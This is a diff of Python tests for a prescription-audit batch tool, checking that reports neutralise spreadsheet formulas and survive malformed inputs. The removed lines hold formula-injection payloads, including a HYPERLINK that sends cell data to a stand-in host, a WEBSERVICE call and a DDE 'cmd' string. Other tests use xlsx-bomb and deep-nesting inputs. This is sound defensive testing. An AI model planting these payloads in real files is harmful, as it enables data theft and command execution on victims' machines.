@@ -11,65 +11,33 @@ import pytest
 
 from tests.conftest import FIXTURES
 from toolkit.batch import BatchOptions, run_batch
+from toolkit.evaluation.hostile import (
+    FORMULA_LEADS,
+    HEADER,
+    bomb_across_scan_boundary,
+    deeply_nested_line,
+    formula_rows,
+    his_row,
+    is_live_formula,
+    lone_surrogate_id_line,
+    lone_surrogate_in_record_line,
+    long_number,
+    long_number_line,
+    many_items,
+    minimal_case,
+    rows_sharing_one_id,
+    surrogate_text_line,
+    with_dimension,
+    write_his_csv,
+    write_his_xlsx,
+    write_xlsx_bomb,
+)
 
 KB = str(FIXTURES / "kb")
-HEADER = [
-    "处方号",
-    "患者",
-    "年龄",
-    "性别",
-    "诊断",
-    "药品名称",
-    "规格",
-    "单次剂量",
-    "剂量单位",
-    "频次",
-    "给药途径",
-    "天数",
-    "医生",
-    "科室",
-]
-FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def opts(**kw: Any) -> BatchOptions:
     return BatchOptions(rules_dir=KB, workers=kw.pop("workers", 1), **kw)
-
-
-def row(
-    rx: str,
-    drug: str = "苯磺酸氨氯地平片",
-    dose: str = "5",
-    unit: str = "mg",
-    days: str = "28",
-    doctor: str = "王医生",
-    dept: str = "全科",
-    freq: str = "qd",
-) -> list[str]:
-    return [
-        rx,
-        "P1",
-        "68",
-        "男",
-        "原发性高血压(I10)",
-        drug,
-        "5mg",
-        dose,
-        unit,
-        freq,
-        "口服",
-        days,
-        doctor,
-        dept,
-    ]
-
-
-def write_table(path: Path, rows: list[list[str]]) -> Path:
-    with path.open("w", encoding="utf-8", newline="") as fh:
-        w = csv.writer(fh)
-        w.writerow(HEADER)
-        w.writerows(rows)
-    return path
 
 
 def journal(path: Path) -> list[dict[str, Any]]:
@@ -78,41 +46,24 @@ def journal(path: Path) -> list[dict[str, Any]]:
 
 # --------------------------------------------------------------------------- 1. formula injection
 
-HOSTILE_ROWS = [
-    row("=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd|' /C calc'!A0"),
-    row("=1+1", drug="-2+3", doctor="@SUM(A1)", dept="+cmd|' /C calc'!A0"),
-    row("+7", drug="代文", dose="abc", doctor='=WEBSERVICE("http://x")', dept="-1+1"),
-    row("@x", drug="阿莫西林胶囊", doctor="-医生", dept="=科室"),
-]
-
-
-def _dangerous(value: Any) -> bool:
-    if not isinstance(value, str) or not value:
-        return False
-    if value[0] not in FORMULA_LEADS:
-        return False
-    try:  # a real negative number stays numeric text; it is not a formula
-        float(value)
-        return False
-    except ValueError:
-        return True
+HOSTILE_ROWS = formula_rows()
 
 
 def test_csv_report_neutralises_formula_leading_cells(tmp_path: Path) -> None:
-    src = write_table(tmp_path / "rx.csv", HOSTILE_ROWS)
+    src = write_his_csv(tmp_path / "rx.csv", HOSTILE_ROWS)
     run_batch(src, tmp_path / "r.csv", "csv", options=opts())
     with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
     assert len(rows) == len(HOSTILE_ROWS) + 1
     cells = [c for r in rows for c in r]
-    assert not [c for c in cells if _dangerous(c)]
+    assert not [c for c in cells if is_live_formula(c)]
     assert "'=1+1" in cells and "'@SUM(A1)" in cells and "'-2+3" in cells  # kept readable, quoted
 
 
 def test_excel_report_has_no_formula_in_any_sheet_or_column(tmp_path: Path) -> None:
     from openpyxl import load_workbook
 
-    src = write_table(tmp_path / "rx.csv", HOSTILE_ROWS)
+    src = write_his_csv(tmp_path / "rx.csv", HOSTILE_ROWS)
     run_batch(src, tmp_path / "r.xlsx", "xlsx", options=opts())
     wb = load_workbook(tmp_path / "r.xlsx")
     assert len(wb.sheetnames) >= 4  # 统计, 审方明细 and the doctors' sheets
@@ -122,7 +73,7 @@ def test_excel_report_has_no_formula_in_any_sheet_or_column(tmp_path: Path) -> N
             for c in r:
                 seen += 1
                 assert c.data_type != "f", (ws.title, c.coordinate, c.value)
-                assert not _dangerous(c.value), (ws.title, c.coordinate, c.value)
+                assert not is_live_formula(c.value), (ws.title, c.coordinate, c.value)
     assert seen > 50
     detail = wb["审方明细"]
     assert any(c.value == "'=1+1" for r in detail.iter_rows() for c in r)
@@ -202,16 +153,16 @@ def test_a_clean_line_is_still_ok(fixture_kb: Any) -> None:
 
 def test_batch_counts_needs_review_and_an_unreadable_only_line_is_not_ok(tmp_path: Path) -> None:
     rows = [
-        row("0001"),
-        row("0002", drug="某某未知药片"),
-        row("0003", dose="-5"),
-        row("0004", days="0"),
-        row("0005", unit="kg"),
-        row("0006", dose="abc"),
-        row("0007"),
-        row("0007", drug="代文", dose="x"),
+        his_row("0001"),
+        his_row("0002", drug="某某未知药片"),
+        his_row("0003", dose="-5"),
+        his_row("0004", days="0"),
+        his_row("0005", unit="kg"),
+        his_row("0006", dose="abc"),
+        his_row("0007"),
+        his_row("0007", drug="代文", dose="x"),
     ]
-    src = write_table(tmp_path / "rx.csv", rows)
+    src = write_his_csv(tmp_path / "rx.csv", rows)
     summary = run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     lines = {c["id"]: c for c in journal(tmp_path / "out.jsonl")}
     assert lines["0001"]["status"] == "ok"
@@ -228,8 +179,8 @@ def test_batch_counts_needs_review_and_an_unreadable_only_line_is_not_ok(tmp_pat
 def test_reports_show_needs_review_separately(tmp_path: Path) -> None:
     from openpyxl import load_workbook
 
-    rows = [row("0001"), row("0002", drug="某某未知药片"), row("0003", dose="abc")]
-    src = write_table(tmp_path / "rx.csv", rows)
+    rows = [his_row("0001"), his_row("0002", drug="某某未知药片"), his_row("0003", dose="abc")]
+    src = write_his_csv(tmp_path / "rx.csv", rows)
     run_batch(src, tmp_path / "r.html", "html", options=opts())
     html = (tmp_path / "r.html").read_text(encoding="utf-8")
     assert "需人工审核 1 张" in html and "无法审核 1 张" in html
@@ -267,7 +218,7 @@ def test_a_comma_that_is_not_a_thousands_separator_is_refused(text: str) -> None
 
 
 def test_decimal_comma_in_a_file_is_an_error_row_naming_file_row_field(tmp_path: Path) -> None:
-    src = write_table(tmp_path / "rx.csv", [row("0001", drug="华法林钠片", dose="2,5")])
+    src = write_his_csv(tmp_path / "rx.csv", [his_row("0001", drug="华法林钠片", dose="2,5")])
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     (case,) = journal(tmp_path / "out.jsonl")
     (r,) = case["rows"]
@@ -284,7 +235,7 @@ def test_a_huge_number_is_refused_quickly() -> None:
 
     start = time.perf_counter()
     with pytest.raises(ValueError, match="too long"):
-        _number("9" * 19_999, "dose")
+        _number(long_number(), "dose")
     assert time.perf_counter() - start < 0.1
 
 
@@ -293,12 +244,12 @@ def test_a_huge_number_is_refused_quickly() -> None:
 
 def test_a_reappearing_prescription_id_is_flagged_with_both_locations(tmp_path: Path) -> None:
     rows = [
-        row("0001", drug="华法林钠片", dose="2.5"),
-        row("0002"),
-        row("0003"),
-        row("0001", drug="阿司匹林肠溶片", dose="100"),
+        his_row("0001", drug="华法林钠片", dose="2.5"),
+        his_row("0002"),
+        his_row("0003"),
+        his_row("0001", drug="阿司匹林肠溶片", dose="100"),
     ]
-    src = write_table(tmp_path / "rx.csv", rows)
+    src = write_his_csv(tmp_path / "rx.csv", rows)
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     lines = journal(tmp_path / "out.jsonl")
     assert [c["id"] for c in lines] == ["0001", "0002", "0003", "0001"]  # audited as two prescriptions
@@ -316,43 +267,22 @@ def test_a_reappearing_prescription_id_is_flagged_with_both_locations(tmp_path: 
 # --------------------------------------------------------------------------- 5. no line aborts a batch
 
 
-def _nested(case_id: Any = "A", **extra: Any) -> dict[str, Any]:
-    return {
-        "id": case_id,
-        "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
-        "prescription": {
-            "items": [
-                {
-                    "drug": "苯磺酸氨氯地平片",
-                    "dose": 5,
-                    "unit": "mg",
-                    "frequency": "qd",
-                    "route": "口服",
-                    "days": 28,
-                }
-            ]
-        },
-        **extra,
-    }
-
-
 @pytest.mark.parametrize("workers", [1, 2])
 def test_hostile_jsonl_lines_become_error_lines_and_the_batch_goes_on(tmp_path: Path, workers: int) -> None:
-    deep = '{"id": "D", "x": ' + "[" * 5000 + "]" * 5000 + "}"
-    surrogate = json.dumps(_nested("B")).replace('"B"', '"\\ud800x"')
-    surrogate_deep = json.dumps(_nested("C", record={"主诉": "\\udfff"})).replace("\\\\udfff", "\\udfff")
-    many = _nested("M")
-    many["prescription"]["items"] = many["prescription"]["items"] * 150
+    deep = deeply_nested_line("D")
+    surrogate = lone_surrogate_id_line(minimal_case("B"), "\\ud800x")
+    surrogate_deep = lone_surrogate_in_record_line("C")
+    many = many_items(minimal_case("M"), 150)
     src = tmp_path / "cases.jsonl"
     src.write_text(
         "\n".join(
             [
-                json.dumps(_nested("A")),
+                json.dumps(minimal_case("A")),
                 deep,
                 surrogate,
                 surrogate_deep,
                 json.dumps(many),
-                json.dumps(_nested("Z")),
+                json.dumps(minimal_case("Z")),
             ]
         )
         + "\n",
@@ -382,7 +312,9 @@ def test_an_exception_inside_one_case_is_that_cases_error_line(
 
     monkeypatch.setattr(runner, "audit", exploding)
     src = tmp_path / "cases.jsonl"
-    src.write_text("\n".join(json.dumps(_nested(i)) for i in ("A", "BOOM", "C")) + "\n", encoding="utf-8")
+    src.write_text(
+        "\n".join(json.dumps(minimal_case(i)) for i in ("A", "BOOM", "C")) + "\n", encoding="utf-8"
+    )
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     lines = journal(tmp_path / "out.jsonl")
     assert [c["status"] for c in lines] == ["ok", "error", "ok"]
@@ -390,8 +322,8 @@ def test_an_exception_inside_one_case_is_that_cases_error_line(
 
 
 def test_too_many_lines_in_one_prescription_is_an_error_row_naming_the_limit(tmp_path: Path) -> None:
-    rows = [row("0001")] + [row("0002", drug="代文")] * 150 + [row("0003")]
-    src = write_table(tmp_path / "rx.csv", rows)
+    rows = rows_sharing_one_id(150, "0002", drug="代文", after="0003")
+    src = write_his_csv(tmp_path / "rx.csv", rows)
     summary = run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts(max_items=100))
     lines = journal(tmp_path / "out.jsonl")
     assert [c["status"] for c in lines] == ["ok", "error", "ok"]
@@ -410,9 +342,9 @@ def test_clinic_extract_keeps_going_past_hostile_lines(tmp_path: Path) -> None:
 
     src = tmp_path / "texts.jsonl"
     lines = [
-        '{"id": "\\ud800", "text": "头痛三天"}',
-        '{"id": "deep", "text": ' + "[" * 5000 + "]" * 5000 + "}",
-        json.dumps({"id": "digits", "text": "血压" + "9" * 19_999 + "mmHg"}),
+        surrogate_text_line(),
+        deeply_nested_line("deep", key="text"),
+        long_number_line("digits"),
         json.dumps({"id": "ok", "text": "头痛三天。"}, ensure_ascii=False),
     ]
     src.write_text("\n".join(lines) + "\n", encoding="utf-8")
@@ -430,35 +362,11 @@ def test_clinic_extract_keeps_going_past_hostile_lines(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- 6. spreadsheets, bounded
 
 
-def _xlsx(path: Path, rows: list[list[Any]], extra: dict[str, list[list[Any]]] | None = None) -> Path:
-    from openpyxl import Workbook
-
-    wb = Workbook()
-    ws = wb.active
-    ws.title = "处方"
-    ws.append(HEADER)
-    for r in rows:
-        ws.append(r)
-    for name, other in (extra or {}).items():
-        o = wb.create_sheet(name)
-        for r in other:
-            o.append(r)
-    wb.save(path)
-    return path
-
-
 def test_xlsx_bomb_cell_is_an_error_row_not_a_crash(tmp_path: Path) -> None:
     import subprocess
     import sys
 
-    from openpyxl import Workbook
-
-    wb = Workbook()
-    ws = wb.active
-    ws.append(HEADER)
-    ws.append(row("0001"))
-    ws["XFD1048576"] = "x"
-    wb.save(tmp_path / "bomb.xlsx")
+    write_xlsx_bomb(tmp_path / "bomb.xlsx")
     assert (tmp_path / "bomb.xlsx").stat().st_size < 10_000
     # in a child process with a memory cap: an allocation of the whole range would kill it
     code = (
@@ -478,7 +386,7 @@ def test_declared_dimension_over_the_limit_is_refused_before_reading(
 ) -> None:
     import toolkit.batch.readers as readers
 
-    src = _xlsx(tmp_path / "rx.xlsx", [row("0001"), row("0002")])
+    src = write_his_xlsx(tmp_path / "rx.xlsx", [his_row("0001"), his_row("0002")])
     monkeypatch.setattr(readers, "MAX_XLSX_CELLS", 20)
     (unit,) = list(readers.iter_cases(src))
     assert unit.case is None and "over the limit of 20" in (unit.error or "") and "CSV" in (unit.error or "")
@@ -489,7 +397,7 @@ def test_large_sheets_are_streamed_and_read_like_small_ones(
 ) -> None:
     import toolkit.batch.readers as readers
 
-    src = _xlsx(tmp_path / "rx.xlsx", [row(f"{i:04d}") for i in range(30)])
+    src = write_his_xlsx(tmp_path / "rx.xlsx", [his_row(f"{i:04d}") for i in range(30)])
     small = [(c.id, len(c.case.prescription.items)) for c in readers.iter_cases(src) if c.case]
     assert readers._plan_xlsx(src).stream is False
     monkeypatch.setattr(readers, "XLSX_IN_MEMORY_BYTES", 100)
@@ -499,7 +407,9 @@ def test_large_sheets_are_streamed_and_read_like_small_ones(
 
 
 def test_other_worksheets_are_listed_as_ignored(tmp_path: Path) -> None:
-    src = _xlsx(tmp_path / "rx.xlsx", [row("0001")], extra={"十二月": [HEADER, row("0009")], "空表": []})
+    src = write_his_xlsx(
+        tmp_path / "rx.xlsx", [his_row("0001")], extra={"十二月": [HEADER, his_row("0009")], "空表": []}
+    )
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     lines = journal(tmp_path / "out.jsonl")
     assert lines[0]["id"] == "0001"
@@ -512,8 +422,8 @@ def test_excel_report_splits_past_the_row_limit_and_names_sheets_legally(tmp_pat
 
     from toolkit.batch.report import write_excel
 
-    rows = [row(f"{i:04d}", doctor="History" if i % 2 else "a/b:c*?[d]'") for i in range(25)]
-    src = write_table(tmp_path / "rx.csv", rows)
+    rows = [his_row(f"{i:04d}", doctor="History" if i % 2 else "a/b:c*?[d]'") for i in range(25)]
+    src = write_his_csv(tmp_path / "rx.csv", rows)
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     write_excel(tmp_path / "out.jsonl", tmp_path / "r.xlsx", max_rows=10)
     wb = load_workbook(tmp_path / "r.xlsx")
@@ -526,26 +436,13 @@ def test_excel_report_splits_past_the_row_limit_and_names_sheets_legally(tmp_pat
     assert all(ws.max_row <= 10 for ws in wb.worksheets)
 
 
-def _with_dimension(src: Path, ref: str, dest: Path) -> Path:
-    import re
-    import zipfile
-
-    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
-        for info in zin.infolist():
-            data = zin.read(info)
-            if info.filename.startswith("xl/worksheets/sheet"):
-                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data)
-            zout.writestr(info, data)
-    return dest
-
-
 def test_a_lying_dimension_loses_no_row_when_streamed(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     import toolkit.batch.readers as readers
 
-    src = _xlsx(tmp_path / "rx.xlsx", [row(f"{i:04d}") for i in range(12)])
-    lying = _with_dimension(src, "A1:C3", tmp_path / "lying.xlsx")
+    src = write_his_xlsx(tmp_path / "rx.xlsx", [his_row(f"{i:04d}") for i in range(12)])
+    lying = with_dimension(src, "A1:C3", tmp_path / "lying.xlsx")
     monkeypatch.setattr(readers, "XLSX_IN_MEMORY_BYTES", 100)  # force the streaming reader
     cases = [c for c in readers.iter_cases(lying) if c.case]
     assert len(cases) == 12 and cases[-1].case.prescription.items[0].days == 28
@@ -556,27 +453,8 @@ def test_a_bomb_reference_cut_by_the_scan_block_boundary_is_still_seen(tmp_path:
 
     from toolkit.batch import readers
 
-    head = (
-        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-        b"<sheetData>"
-    )
-    bomb = b'<row r="2"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
     for cut in (3, 11, 20):  # the reference starts this many bytes before the 1 MiB boundary
-        filler = (
-            (1 << 20)
-            - cut
-            - len(head)
-            - len(b'<row r="1"><c r="A1" t="inlineStr"><is><t></t></is></c></row>')
-        )
-        filler -= len(b'<row r="2">')
-        xml = (
-            head
-            + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
-            + b"x" * filler
-            + b"</t></is></c></row>"
-            + bomb
-            + b"</sheetData></worksheet>"
-        )
+        xml = bomb_across_scan_boundary(cut)
         assert xml.index(b'<c r="XFD') == (1 << 20) - cut
         path = tmp_path / f"s{cut}.zip"
         with zipfile.ZipFile(path, "w") as z:
